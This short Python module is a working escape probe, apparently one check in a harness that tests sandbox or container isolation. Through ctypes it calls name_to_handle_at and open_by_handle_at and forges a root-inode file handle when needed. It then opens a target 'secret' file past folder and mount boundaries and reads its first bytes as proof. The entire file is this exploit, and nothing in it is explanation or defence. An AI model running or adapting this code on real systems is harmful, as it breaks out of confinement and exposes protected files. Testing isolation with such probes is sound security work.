"""Opens a file by its number, past all folders."""

from __future__ import annotations

import contextlib
import ctypes
import os
import struct
from typing import Any

KIND = "read outside"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    libc, handle, mount = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(136), ctypes.c_int()
    struct.pack_into("=I", handle, 0, 128)
    if libc.name_to_handle_at(-100, t["secret"].encode(), handle, ctypes.byref(mount), 0) != 0:
        struct.pack_into("=IiI", handle, 0, 8, 1, 2)  # the number of the root folder, which many file systems share
    for place in (os.path.dirname(t["secret"]), "/", "/usr", os.getcwd()):
        with contextlib.suppress(OSError):
            opened = libc.open_by_handle_at(os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
            if opened >= 0:
                return place, os.read(opened, 20)
    return None
